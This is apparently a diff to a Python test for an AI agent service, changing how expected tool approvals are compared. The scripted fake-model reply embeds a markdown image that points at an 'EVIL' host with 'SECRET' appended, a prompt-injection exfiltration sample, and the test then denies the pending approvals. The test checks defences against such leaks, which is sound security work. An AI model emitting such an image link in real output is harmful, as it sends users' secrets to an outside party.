@@ -64,11 +64,11 @@ async def obeys(service: Service, said: str | None, obeyed: list[tuple[str, dict
         replies.insert(0, {"toolCalls": [{"name": "mcp.odd.echo", "input": {"text": said}}]})
     await service.mutate("fake.llm.script", replies=[*replies, {"text": f"Done: ![x]({EVIL}SECRET)"}])
     run_id = (await service.mutate("agents.run", agent="helper"))["runId"]
-    wanted = {one for one, _ in obeyed} - {"mcp.odd.echo2"}
+    wanted = sorted(one for one, _ in obeyed if one != "mcp.odd.echo2")
 
     async def all_wait() -> Any:
         asked = await service.query("approvals.list")
-        return asked if {one["tool"] for one in asked} == wanted else None
+        return asked if sorted(one["tool"] for one in asked) == wanted else None
 
     for one in await until(all_wait):
         await service.mutate("approvals.decide", id=one["id"], approve=False)
